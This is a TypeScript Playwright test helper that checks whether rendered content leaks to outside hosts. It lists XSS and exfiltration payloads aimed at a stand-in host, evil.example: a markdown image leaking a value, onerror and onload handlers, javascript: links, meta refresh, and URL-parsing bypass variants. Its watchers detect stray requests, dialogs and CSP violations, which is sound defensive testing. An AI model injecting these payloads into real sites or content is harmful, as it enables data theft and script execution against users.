import type { BrowserContext, Page } from 'playwright-core'

export const attacks = [
  '![x](https://evil.example/p.png?spent=12.34)',
  '<img src=https://evil.example/i.png onerror="window.hit=1">',
  '<script src=https://evil.example/s.js></script><script>window.hit=1</script>',
  '"><iframe src=https://evil.example/f></iframe><svg onload=window.hit=1>',
  '<a href=https://evil.example/a>Details</a> [Details](https://evil.example/b) https://evil.example/c',
  '[Open](javascript:window.hit=1) <form action=https://evil.example><button>Approve</button></form>',
  '<link rel=stylesheet href=//evil.example/x.css><style>@import "https://evil.example/y.css"</style>',
  'url(https://evil.example/u) <base href=https://evil.example> <meta http-equiv=refresh content="0;//evil.example">',
] as const

export const allAttacks = attacks.join('\n')

export const wayOut = [
  'https://evil.example/',
  '//evil.example/',
  '/\\evil.example/',
  '\\\\evil.example',
  '/\t/evil.example/',
  '/\n/evil.example',
  '\t//evil.example/',
  ' https://evil.example/',
  'javascript:window.hit=1',
  'java\nscript:window.hit=1',
  'data:text/html,<script>window.hit=1</script>',
  'mailto:thief@evil.example',
  'blob:https://evil.example/1',
]

export interface Watch {
  strangers: string[]
  violations: string[]
  dialogs: string[]
}

export async function watch(context: BrowserContext, page: Page, ...origins: string[]): Promise<Watch> {
  const seen: Watch = { strangers: [], violations: [], dialogs: [] }
  context.on('request', (request) => {
    const url = new URL(request.url())
    if (url.protocol.startsWith('http') && !origins.includes(url.origin)) seen.strangers.push(url.href)
  })
  context.on('page', (other) => seen.strangers.push(`a window: ${other.url()}`))
  page.on('dialog', (dialog) => {
    seen.dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  await context.exposeFunction('tellViolation', (text: string) => seen.violations.push(text))
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => {
      const report: unknown = Reflect.get(window, 'tellViolation')
      if (typeof report === 'function') report(`${violatedDirective} ${blockedURI}`)
    })
  })
  return seen
}

export function foreignIn(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const found: string[] = []
    const isOwn = (address: string) => new URL(address, location.href).origin === location.origin
    for (const anchor of document.querySelectorAll('a, area, form, base, link')) {
      const address = anchor.getAttribute('href') ?? anchor.getAttribute('action')
      if (address !== null && !isOwn(address)) found.push(`${anchor.tagName} ${address}`)
    }
    for (const shown of document.querySelectorAll('img, iframe, embed, object, video, source, script[src]')) {
      const address = shown.getAttribute('src') ?? shown.getAttribute('data') ?? ''
      if (address !== '' && !isOwn(address) && !address.startsWith('blob:')) found.push(`${shown.tagName} ${address}`)
    }
    for (const odd of document.querySelectorAll(
      'iframe, [onerror], [onload], meta[http-equiv=refresh], main svg image',
    )) {
      found.push(odd.outerHTML)
    }
    if (Reflect.get(window, 'hit') !== undefined) found.push('a script ran')
    return found
  })
}
